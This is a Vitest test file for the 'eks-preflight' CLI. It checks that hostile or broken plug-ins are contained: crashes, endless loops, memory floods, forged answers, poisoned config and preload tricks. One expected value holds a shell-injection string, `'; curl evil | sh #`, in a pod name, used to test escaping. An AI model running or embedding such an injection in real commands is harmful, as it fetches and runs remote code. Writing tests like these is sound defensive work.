import { cp, mkdir, mkdtemp, rm, truncate, writeFile } from 'node:fs/promises';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLineLogger } from '../../../src/custom-checks/plugins/log.ts';
import { formatNames } from '../../../src/formats/formats.ts';
import { reportSchema, type Report } from '../../../src/report/schema.ts';
import { validators } from '../../formats/validators.ts';
import { demoWorld } from '../../world/demo-world.ts';
import { runCommand } from '../../world/in-process.ts';
import type { Outcome } from '../../world/outcome.ts';
import { runProcess, startWorld, type RunningWorld } from '../../world/run.ts';

/**
 * Hostile and broken plug-ins: the user sees a line and an exit code, never a stack trace. The results of all other
 * checks are the same as without the plug-in.
 */

const modules = fileURLToPath(new URL('./hostile/', import.meta.url));
const healthy = fileURLToPath(new URL('../../inventories/healthy.json', import.meta.url));
const secret = 'AKIAIOSFODNN7EXAMPLE';
const env = { PATH: '/usr/bin:/bin', HOME: '/nonexistent', AWS_ACCESS_KEY_ID: secret, CI: 'true' };

let cwd: string;
let alone: Report;
let world: RunningWorld;

beforeAll(async () => {
  cwd = await mkdtemp(path.join(tmpdir(), 'hostile-plugins-'));
  await cp(modules, cwd, { recursive: true });
  alone = reportIn(await runProcess(['demo', '--format', 'json'], { env, cwd }));
  world = await startWorld(demoWorld());
});
afterAll(async () => {
  await world.close();
  await rm(cwd, { recursive: true, force: true });
});

function reportIn({ stdout }: Outcome): Report {
  return reportSchema.parse(JSON.parse(stdout));
}

function demo(names: readonly string[], ...args: readonly string[]): Promise<Outcome> {
  const plugins = names.map((name) => `./${name}.mjs`).join(',');
  return runProcess(['demo', '--format', 'json', '--plugin', plugins, ...args], { env, cwd });
}

function expectNoTrace({ stdout, stderr }: Outcome): void {
  expect(`${stdout}${stderr}`).not.toMatch(/^\s+at .*:\d+\)?$/m);
  expect(stderr).not.toContain('crashed');
}

/** For each check of the plug-ins: its status, its reason if it has one, and the messages of its findings. */
function saidBy(report: Report, names: readonly string[]): Record<string, string[]> {
  const theirs = report.results.filter(({ category }) => names.includes(category));
  return Object.fromEntries(
    theirs.map(({ id, status, reason, findings }) => [
      id,
      [status, ...(reason === null ? [] : [reason]), ...findings.map(({ message }) => message)],
    ]),
  );
}

function mapOtherResults(report: Report, names: readonly string[]) {
  return new Map(report.results.filter(({ category }) => !names.includes(category)).map((one) => [one.id, one]));
}

interface Judged {
  said: Record<string, string[]>;
  outcome: Outcome;
}

/** Runs the demo with plug-ins. Expects the same results of all other checks as without them. */
async function judged(...names: string[]): Promise<Judged> {
  const outcome = await demo(names);
  expectNoTrace(outcome);
  const report = reportIn(outcome);
  expect(mapOtherResults(report, names)).toEqual(mapOtherResults(alone, []));
  return { said: saidBy(report, names), outcome };
}

/** Runs the command in this process: a module runs in its own worker, so a separate process would show nothing more. */
const inProcess = (args: readonly string[]): Promise<Outcome> => runCommand(args, { env: { NO_COLOR: '1' }, cwd });

const authors = (name: string) =>
  `Correct the plug-in ${name} and add a case to its tests, or report this to its authors.`;

describe('what a check answers', () => {
  /** The status, the message of the unknown finding, then that of the finding that the module reported first. */
  const invalid = (flaw: string) => ['unknown', `the check reports an invalid finding (number 2): ${flaw}`, 'first'];
  const noJson = (flaw: string) => [
    'unknown',
    `the check reports a finding that cannot be written as JSON: ${flaw}`,
    'first',
  ];
  const crashed = (message: string) => ['unknown', `the check crashed: ${message}`, 'first', 'second'];
  const noFindings = ['unknown', 'the check returned no list of findings'];
  const noObject = ['unknown', 'the check reports a finding that is not an object'];
  const noAdvice = ['unknown', 'the check reports a finding with a fix that is not made with advice`...`', 'first'];
  const noGate = ['unknown', 'the check returned neither true nor a reason from applies.when'];
  const noLink = invalid('links.0: expected an https URL, with parentheses, quotes and spaces percent-encoded');
  const rows: Record<string, unknown[]> = {
    'throw-error': crashed('answers.mjs:36: two and out'),
    'throw-null': crashed('null'),
    'throw-proxy': ['unknown', 'the check crashed: trap'],
    'throw-getter': ['unknown', 'the check crashed: y'],
    'throw-long': crashed(`${'long '.repeat(60)}…`),
    promise: ['unknown', 'the check returned a promise instead of findings'],
    undefined: noFindings,
    number: noFindings,
    string: noFindings,
    object: noFindings,
    strings: noObject,
    nothing: noObject,
    list: noObject,
    proxy: ['unknown', 'the check reports a finding that cannot be written as JSON: trap'],
    million: ['unknown', 'the check reports more than 20000 findings', 'a problem'],
    'long-text': invalid('message: more than 2000 characters'),
    'many-megabytes': [
      'unknown',
      'the check reports an invalid finding (number 1): message: more than 2000 characters',
    ],
    'deep-list': noJson('Maximum call stack size exceeded'),
    'deep-object': invalid('evidence.0.observed: expected a string'),
    cycle: ['unknown', expect.stringContaining('JSON: Converting circular structure'), 'first'],
    bigint: noJson('Do not know how to serialize a BigInt'),
    function: invalid('message: expected a string'),
    symbol: invalid('message: expected a string'),
    'wrong-type': invalid('message: expected a string'),
    empty: invalid('message: empty'),
    'no-resource': invalid('resource: expected an object'),
    'unknown-field': invalid('unknown field accepted'),
    'proto-key': invalid('unknown field __proto__'),
    'to-json': invalid('level: expected fail, warn or unknown'),
    'to-json-text': [...noObject, 'first'],
    pass: invalid('level: expected fail, warn or unknown'),
    'at-nan': invalid('at: expected a number'),
    'at-negative': invalid('at or since: no minor version'),
    'at-half': invalid('at: expected a whole number'),
    'at-huge': invalid('at: more than 9007199254740991'),
    'at-late': ['warn', 'first'],
    'late-first': invalid('since: later than at'),
    'since-only': invalid('since: set without at'),
    'forged-id': invalid('unknown field id'),
    'fix-text': noAdvice,
    'fix-forged': noAdvice,
    'fix-copied': noAdvice,
    'fix-null': noAdvice,
    'link-script': noLink,
    'link-markdown': noLink,
    'change-facts': [
      'unknown',
      "the check crashed: answers.mjs:89: Cannot assign to read only property 'name' of object '#<Object>'",
    ],
    quoted: ['warn', 'a problem', 'a problem'],
    'too-severe': invalid('level: fail, although the severity of the check is warn'),
    after: invalid('level: fail in phase after'),
    'when-neither': noGate,
    'when-promise': noGate,
    'when-throws': ['unknown', 'the check crashed: answers.mjs:119: x'],
    skips: ['skip', '::error::no'],
  };
  let report: Report;
  beforeAll(async () => {
    const outcome = await demo(['answers']);
    expectNoTrace(outcome);
    report = reportIn(outcome);
  });

  it('is judged as told, and nothing else changes', () => {
    const expected = Object.fromEntries(Object.entries(rows).map(([name, said]) => [`answers/${name}`, said]));
    expect(saidBy(report, ['answers'])).toEqual(expected);
    expect(mapOtherResults(report, ['answers'])).toEqual(mapOtherResults(alone, []));
  });

  it('is for its authors to mend', () => {
    const [finding] = report.results.find(({ id }) => id === 'answers/promise')?.findings ?? [];
    expect(finding?.fix).toBe(authors('answers'));
  });

  it('gives no command that a name of the cluster could change', () => {
    const findings = report.results.find(({ id }) => id === 'answers/quoted')?.findings ?? [];
    expect(findings.map(({ commands }) => commands)).toEqual([
      [],
      [String.raw`kubectl delete pod 'a'\''; curl evil | sh #'`],
    ]);
    expect(findings[0]?.fix).toContain('Command not shown');
  });
});

/**
 * Modules with checks that end their process, never return, or answer too much; the status and messages of each check.
 */
const ends: [string, Record<string, string[]>][] = [
  ['loop-run', { x: ['unknown', 'the check did not finish within 10 s'], well: ['warn', 'a problem'] }],
  ['loop-when', { x: ['unknown', 'the check did not finish within 10 s'] }],
  ['loop-getter', { x: ['unknown', 'the check did not finish within 10 s'] }],
  ['loop-next', { x: ['unknown', 'the check did not finish within 10 s'] }],
  ['loop-wait', { x: ['unknown', 'the check did not finish within 10 s'] }],
  ['loop-iterator', { x: ['unknown', 'the check reports more than 20000 findings', 'a problem'] }],
  [
    'exit-run',
    { x: ['unknown', 'the check did not finish: its process ended with exit code 0'], well: ['warn', 'a problem'] },
  ],
  ['kill-run', { x: ['unknown', 'the check did not finish: its process ended with SIGABRT'] }],
  ['pipe-flood', { x: ['unknown', 'the check answered with more than 64 MB'] }],
];
// On a slow machine, the ten seconds may end before memory is full.
const full = [
  'unknown',
  expect.stringMatching(/^the check (?:used more than \d+ MB of memory|did not finish within 10 s)$/),
];

/** Modules whose checks return, whatever they leave behind. */
const comeBack = ['forged-answers', 'environment', 'print-flood', 'handlers', 'rejects', 'leaves-open'];
const heaps = ['heap-array', 'heap-fill', 'heap-buffers', 'heap-text'];

/** The outcomes of three runs, each of several modules in separate processes. */
let ended: Judged;
let stopped: Judged;
let came: Judged;
beforeAll(async () => {
  ended = await judged(...ends.map(([name]) => name));
  stopped = await judged(...heaps, 'many-loops');
  came = await judged(...comeBack);
});

/** What the checks of these modules reported. */
function selectMessages({ said }: Judged, ...names: string[]): Record<string, string[]> {
  return Object.fromEntries(Object.entries(said).filter(([id]) => names.includes(id.split('/')[0] ?? '')));
}

describe('what does not come back', () => {
  it('is unknown, and takes no other check with it', () => {
    const { said, outcome } = ended;
    const rows = ends.flatMap(([name, of]) => Object.entries(of).map(([id, row]) => [`${name}/${id}`, row]));
    expect(said).toEqual(Object.fromEntries(rows));
    expect(outcome.code).toBe(alone.exitCode);
    expect(outcome.stderr).toBe('');
  });

  it.each(heaps)('is a full memory: %s', (name) => {
    const said = selectMessages(stopped, name);
    expect(said[`${name}/x`]).toEqual(full);
    if (name === 'heap-array') expect(said['heap-array/well']).toEqual(['warn', 'a problem']);
  });

  it('is asked three times, not thirty', () => {
    const said = selectMessages(stopped, 'many-loops');
    const messages = Object.values(said).map(([, message]) => message);
    expect(messages.filter((message) => message === 'the check did not finish within 10 s')).toHaveLength(3);
    const rest = 'the check was not run: its plug-in had to be stopped 3 times before';
    expect(messages.filter((message) => message === rest)).toHaveLength(27);
  });

  it('leaves no process behind where this one is killed', async () => {
    let pid = 0;
    await runProcess(['scan', '--inventory', healthy, '--verbose', '--plugin', './loop-pid.mjs'], {
      env,
      cwd,
      started: (child) => {
        child.stderr?.on('data', (text: string) => {
          pid ||= Number(/worker (\d+)/.exec(text)?.[1] ?? 0);
          if (pid !== 0) child.kill('SIGKILL');
        });
      },
    });
    expect(pid).toBeGreaterThan(0);
    await expect.poll(() => isRunning(pid)).toBe(false);
  });

  it('ends with its own children, timers and sockets', async () => {
    const pid = Number(came.said['leaves-open/x']?.[1]?.split(' ')[1]);
    expect(pid).toBeGreaterThan(0);
    await expect.poll(() => isRunning(pid)).toBe(false);
  });
});

function isRunning(pid: number): boolean {
  try {
    process.kill(pid, 0);
    // A zombie process counts as ended.
    return !execFileSync('ps', ['-o', 'stat=', '-p', String(pid)], { encoding: 'utf8' }).startsWith('Z');
  } catch {
    return false;
  }
}

describe('what runs beside a check', () => {
  it('changes no answer but its own', () => {
    expect(selectMessages(came, 'forged-answers')).toEqual({
      'forged-answers/x': ['unknown', 'the check returned an invalid answer'],
    });
  });

  it('sees no environment, no arguments and no standard input', () => {
    const { said, outcome } = came;
    expect(said['environment/x']?.[1]).toMatch(/^\[\{\},2,(?:null|false),0\]$/);
    expect(outcome.stdout).not.toContain(secret);
  });

  it('prints nothing into the report, and so much into the log', async () => {
    const said = selectMessages(came, 'print-flood');
    expect([said, came.outcome.stderr]).toEqual([{ 'print-flood/x': ['warn', 'a problem'] }, '']);
    const flood = ['--inventory', healthy, '--verbose', '--plugin', './print-flood.mjs'];
    const verbose = await runProcess(['scan', '--format', 'json', ...flood], { env, cwd });
    expect(saidBy(reportIn(verbose), ['print-flood'])).toEqual(said);
    expect(verbose.stderr.length).toBeLessThan(2_000_000);
    expect(verbose.stderr).not.toMatch(/\u001B|^::/m);
  });

  it('prints a thousand lines of a thousand characters at most', () => {
    const lines: string[] = [];
    const print = createLineLogger((line) => lines.push(line));
    for (let at = 0; at < 3_000; at++) print(`${'x'.repeat(300)}${at % 7 === 0 ? '\n\n' : 'y'}`);
    for (let at = 0; at < 3; at++) print('z\n'.repeat(100_000));
    expect(lines.length).toBe(1_000);
    expect(Math.max(...lines.map(({ length }) => length))).toBe(1_000);
    expect(lines.at(-1)).toBe('the plug-in printed more; the rest is not shown');
  });

  it('is not stopped by rejections, and stops by no handler of its own', () => {
    expect(selectMessages(came, 'handlers', 'rejects')).toEqual({
      'handlers/x': ['unknown', 'the check returned a promise instead of findings'],
      'handlers/timer': ['warn', 'a problem'],
      'handlers/well': ['warn', 'a problem'],
      'rejects/x': ['warn', 'a problem'],
      'rejects/well': ['warn', 'a problem'],
    });
  });
});

describe('hostile texts', () => {
  let report: Report;
  beforeAll(async () => {
    const files = formatNames.flatMap((format) => ['--output', `${format}=texts.${format}`]);
    const outcome = await demo(['texts'], ...files);
    expect([outcome.code, outcome.stderr]).toEqual([1, '']);
    report = reportIn(outcome);
  });

  it.each(formatNames)('are texts as %s', (format) => {
    expect(mapOtherResults(report, ['texts'])).toEqual(mapOtherResults(alone, []));
    const text = readFileSync(path.join(cwd, `texts.${format}`), 'utf8');
    validators[format](text, report);
    expect(text.match(/[^\P{Cc}\n]|\p{Cf}|\p{Cs}/gu)).toBeNull();
  });

  it.each([['checks'], ['checks', 'texts/x'], ['permissions']])('are texts in %s %s', async (...args) => {
    const { stdout, stderr, code } = await inProcess([...args, '--plugin', './texts.mjs']);
    expect([code, stderr]).toEqual([0, '']);
    validators.text(stdout, alone);
    expect(stdout.match(/[^\P{Cc}\n]|\p{Cf}|\p{Cs}/gu)).toBeNull();
  });
});

/** Values of --plugin, and why they are not loaded. */
const notLoaded: [string, string][] = [
  ['./no-default.mjs', 'its default export is not a plug-in (expected: export default definePlugin({ ... }))'],
  ['./null-default.mjs', 'its default export is not a plug-in (expected: export default definePlugin({ ... }))'],
  ['./other-default.mjs', 'the plug-in has no list of checks'],
  ['./proxy-default.mjs', 'trap'],
  ['./syntax.mjs', "its module crashed: CWD/syntax.mjs:3: SyntaxError: Unexpected token '='"],
  ['./syntax-below.mjs', "its module crashed: CWD/syntax.mjs:3: SyntaxError: Unexpected token '='"],
  [
    './no-export.mjs',
    "its module crashed: CWD/no-export.mjs:1: SyntaxError: The requested module 'eks-preflight' does not provide an export named 'nothing'",
  ],
  ['./imports-missing.mjs', "Cannot find module 'CWD/missing.mjs' imported from CWD/imports-missing.mjs"],
  ['./pollution.mjs', 'name: expected a string'],
  ['./exit-load.mjs', 'its module did not finish: its process ended with exit code 0'],
  ['./throw-load.mjs', 'CWD/throw-load.mjs:1: no red and a line'],
  ['./throw-null-load.mjs', 'null'],
  ['./loop-load.mjs', 'its module did not finish within 30 s'],
  ['./wait-load.mjs', 'its module did not finish within 30 s'],
  ['./made/pipe.mjs', 'it is not a regular file'],
  ['./made/big.mjs', 'it is larger than 20 MB'],
  ['./made', 'expected a file that ends in .mjs, .js, .cjs, .ts, .yaml or .yml'],
  ['./made/folder.mjs', 'it is a directory'],
  ['./made/a.json', 'expected a file that ends in .mjs, .js, .cjs, .ts, .yaml or .yml'],
  ['./made/a.cjs', 'the plug-in has no list of checks'],
  ['./missing.mjs', 'no such file or directory'],
  ['missing', 'no such package'],
  ['/dev/stdin', 'expected a file that ends in .mjs, .js, .cjs, .ts, .yaml or .yml'],
  ['./missing\u001B[31m\n\u202E.mjs', 'no such file or directory'],
];

describe('a plug-in that cannot be loaded', () => {
  beforeAll(async () => {
    const made = path.join(cwd, 'made');
    await mkdir(path.join(made, 'folder.mjs'), { recursive: true });
    execFileSync('mkfifo', [path.join(made, 'pipe.mjs')]);
    for (const [name, text] of Object.entries({ 'big.mjs': '', 'a.json': '{}', 'a.cjs': 'module.exports = {};' }))
      await writeFile(path.join(made, name), text);
    await truncate(path.join(made, 'big.mjs'), 100_000_000);
  });

  it.concurrent.each(notLoaded)('%j ends the command with one line', async (module, flaw) => {
    const { code, stdout, stderr } = await inProcess(['demo', '--plugin', module]);
    expect([code, stdout]).toEqual([3, '']);
    const [line] = stderr.replaceAll(cwd, 'CWD').split('\n');
    const shown = module.replace('\u001B[31m\n\u202E', ' ').replace('missing .mjs', 'missing .mjs');
    expect(line).toBe(`eks-preflight: cannot load the plug-in ${shown}: ${flaw}`);
    expect(stderr.trim().split('\n').length).toBeLessThanOrEqual(2);
  });

  it.each(['./syntax.mjs', './exit-load.mjs'])('%j ends a process with that line', async (module) => {
    const args = ['demo', '--plugin', module];
    const [apart, here] = [await runProcess(args, { env, cwd }), await inProcess(args)];
    expect([apart.code, apart.stdout, apart.stderr]).toEqual([3, '', here.stderr]);
  });

  it.each([
    'https://x.test/a.mjs',
    'data:text/javascript;base64.mjs',
    'node:fs',
    'fs',
    'file:///x.mjs',
    '#x',
    '@a/../b',
  ])('is neither a file nor a package: %s', async (module) => {
    const { code, stdout, stderr } = await inProcess(['demo', '--plugin', module]);
    expect([code, stdout]).toEqual([3, '']);
    expect(stderr).toContain(`invalid --plugin '${module}' (expected a file or the name of a package)`);
  });

  it('is TypeScript that this Node does not run', async () => {
    await writeFile(path.join(cwd, 'typed.ts'), 'const x: string = "x";\nexport default x;\n');
    const { code, stderr } = await inProcess(['demo', '--plugin', './typed.ts']);
    const strips = (process.features as { typescript?: unknown }).typescript === 'strip';
    expect(code).toBe(3);
    expect(stderr).toContain(
      strips
        ? 'its default export is not a plug-in'
        : `Node ${process.versions.node} does not run TypeScript\nUse Node 22.18`,
    );
  });

  it.each([
    ['nodes', 'the name nodes is reserved'],
    ['report', 'the name report is reserved'],
    ['a.b', 'name: expected lower case, digits and hyphens'],
    ['a/b', 'name: expected lower case, digits and hyphens'],
    ['../x', 'name: expected lower case, digits and hyphens'],
    ['ACME', 'name: expected lower case, digits and hyphens'],
    ['n\u043Edes', 'name: expected lower case, digits and hyphens'],
    ['\u001B[31macme', 'name: expected lower case, digits and hyphens'],
    ['__proto__', 'name: expected lower case, digits and hyphens'],
  ])('has the name %j', async (name, flaw) => {
    const file = path.join(cwd, 'named.mjs');
    await writeFile(file, `import { one } from './one.mjs';\nexport default one(${JSON.stringify(name)}, () => []);\n`);
    const { code, stderr } = await inProcess(['demo', '--plugin', './named.mjs']);
    expect(code).toBe(3);
    expect(stderr.split('\n')[0]).toMatch(
      /^eks-preflight: cannot load the plug-in \.\/named\.mjs: [\x20-\x7E\u0430-\u044F]+$/,
    );
    expect(stderr.split('\n')[0]).toContain(flaw);
  });

  it('has the name of another one', async () => {
    await cp(path.join(cwd, 'rejects.mjs'), path.join(cwd, 'again.mjs'));
    const { code, stderr } = await inProcess(['demo', '--plugin', './rejects.mjs,./again.mjs']);
    expect([code, stderr.split('\n')[0]]).toEqual([
      3,
      'eks-preflight: two plug-ins are named rejects: ./rejects.mjs and ./again.mjs',
    ]);
    const once = await inProcess(['demo', '--plugin', './rejects.mjs,./rejects.mjs']);
    expect(once.code).toBe(alone.exitCode);
  });
});

describe('objects of a cluster', () => {
  const scan = (...args: string[]) =>
    runProcess(['scan', '--cluster', 'prod', '--format', 'json', ...args], { env: world.env, cwd });
  const countRequests = (resource: string, from: number) =>
    world.requests.slice(from).filter(({ path: url }) => url.includes(resource)).length;
  const unread = (id: string, flaw: string) => ['unknown', `not seen: ${id} could not be read: ${flaw}`];

  it('are read as they are declared, or not at all', async () => {
    const outcome = await scan('--plugin', './objects.mjs', '--only', 'objects/*');
    expectNoTrace(outcome);
    expect(saidBy(reportIn(outcome), ['objects'])).toEqual({
      'objects/throws': unread('objects/throws', 'project crashed: objects.mjs:10: no spec'),
      'objects/promise': unread('objects/promise', 'project crashed: it returned a promise'),
      'objects/wrong': unread('objects/wrong', 'project returned name: expected a string'),
      'objects/deep': unread('objects/deep', 'project crashed: Maximum call stack size exceeded'),
      'objects/more': ['warn', '[{"name":"karpenter"}]'],
      'objects/proto': ['warn', '[{"name":"x"}]'],
      'objects/nothing': ['warn', '[]'],
    });
  });

  it('are unknown where project does not come back', async () => {
    const outcome = await scan('--plugin', './objects-end.mjs', '--only', 'objects-end/*');
    expectNoTrace(outcome);
    const said = Object.values(saidBy(reportIn(outcome), ['objects-end'])).map(([, message = '']) => message);
    expect(said.map((message) => message.replace(/^.*(?:read|: ): /, '')).sort()).toEqual([
      'project answered with more than 64 MB',
      'project did not finish within 10 s',
      'project did not finish: its process ended with exit code 0',
      'project was not run: its plug-in had to be stopped 3 times before',
    ]);
  });

  it('are Secrets only where somebody asks for them', async () => {
    const before = world.requests.length;
    const without = await scan('--plugin', './secrets.mjs', '--only', 'secrets/*');
    expect(saidBy(reportIn(without), ['secrets'])).toEqual({ 'secrets/x': ['skip', 'needs --with secrets'] });
    expect(countRequests('/secrets', before)).toBe(0);
    const granted = await scan('--plugin', './secrets.mjs', '--only', 'secrets/*', '--with', 'secrets');
    expect(saidBy(reportIn(granted), ['secrets'])).toEqual({ 'secrets/x': ['warn', 'read number'] });
    expect(countRequests('/secrets', before)).toBe(1);
  });

  it('leave checks what --timeout leaves', async () => {
    const outcome = await scan('--plugin', './many-loops.mjs', '--only', 'many-loops/*', '--timeout', '8s');
    const messages = Object.values(saidBy(reportIn(outcome), ['many-loops'])).map(([, message = '']) => message);
    const late = messages.filter((message) => /^the check did not finish within [1-8] s$/.test(message));
    expect(late.length).toBeGreaterThan(0);
    expect(messages.filter((message) => message === 'the check was not run: cut off by --timeout 8s')).toHaveLength(
      30 - late.length,
    );
  });
});

it('eleven plug-ins that are asked at once print no warning', async () => {
  const names = Array.from({ length: 11 }, (_, at) => `team-${at}`);
  for (const name of names) {
    const rule = { id: 'x', title: 'Never', level: 'warn', why: 'None.', fact: 'cluster', when: 'false' };
    const rules = { plugin: name, rules: [{ ...rule, message: 'is true', fix: 'Mend it.' }] };
    await writeFile(path.join(cwd, `${name}.yaml`), JSON.stringify(rules));
  }
  const plugins = names.map((name) => `./${name}.yaml`).join(',');
  const only = names.map((name) => `${name}/x`).join(',');
  const args = ['scan', '--inventory', healthy, '--plugin', plugins, '--only', only, '--format', 'json'];
  const outcome = await runProcess(args, { env, cwd });
  expect([outcome.code, outcome.stderr]).toEqual([0, '']);
  expect(saidBy(reportIn(outcome), names)).toEqual(Object.fromEntries(names.map((name) => [`${name}/x`, ['pass']])));
});

describe('where a plug-in is named', () => {
  const run = (args: string[], more: NodeJS.ProcessEnv = {}, folder = cwd) =>
    runProcess([...args, '--format', 'json', '--inventory', healthy], {
      env: { ...env, ...more },
      cwd: folder,
    });
  let folder: string;
  beforeAll(async () => {
    folder = path.join(cwd, 'repository');
    await mkdir(path.join(folder, 'sub'), { recursive: true });
    for (const name of ['one', 'rejects']) await cp(path.join(cwd, `${name}.mjs`), path.join(folder, `${name}.mjs`));
    await writeFile(path.join(folder, 'sub/named.yaml'), 'plugin: ./rejects.mjs\n');
  });

  it('is no config file that was only found', async () => {
    await writeFile(path.join(folder, 'eks-preflight.config.yaml'), 'plugin: ./exit-load.mjs\n');
    const { code, stderr } = await run(['scan'], {}, folder);
    await rm(path.join(folder, 'eks-preflight.config.yaml'));
    expect(code).toBe(3);
    expect(stderr).toContain('eks-preflight.config.yaml may not set plugin, because it was not named with --config');
  });

  it('is a named config file, and not the environment; files are relative to the working directory', async () => {
    const named = await run(['scan', '--config', 'sub/named.yaml'], {}, folder);
    const variable = await run(['scan'], { EKS_PREFLIGHT_PLUGIN: './rejects.mjs' }, folder);
    expect(Object.keys(saidBy(reportIn(named), ['rejects']))).toEqual(['rejects/well', 'rejects/x']);
    expect(saidBy(reportIn(variable), ['rejects'])).toEqual({});
    expect(variable.stderr).toContain('ignoring unknown environment variable EKS_PREFLIGHT_PLUGIN');
  });

  it('has the API of the command that runs, whatever a repository holds', async () => {
    const forged = path.join(folder, 'node_modules/eks-preflight');
    await mkdir(forged, { recursive: true });
    await writeFile(
      path.join(forged, 'package.json'),
      '{"name":"eks-preflight","type":"module","exports":"./index.js"}',
    );
    await writeFile(path.join(forged, 'index.js'), 'throw new Error("forged");\n');
    const imports = { '#x': './exit.mjs', 'eks-preflight': './exit.mjs' };
    await writeFile(
      path.join(folder, 'package.json'),
      JSON.stringify({ name: 'eks-preflight', exports: './no.js', imports }),
    );
    await writeFile(
      path.join(folder, 'preload.cjs'),
      'if (process.argv[1]?.includes("plugin-worker")) process.exit(9);',
    );
    const outcome = await run(
      ['scan', '--plugin', './rejects.mjs'],
      { NODE_OPTIONS: `--require ${path.join(folder, 'preload.cjs')}` },
      folder,
    );
    expect(saidBy(reportIn(outcome), ['rejects'])).toEqual({
      'rejects/well': ['warn', 'a problem'],
      'rejects/x': ['warn', 'a problem'],
    });
  });
});
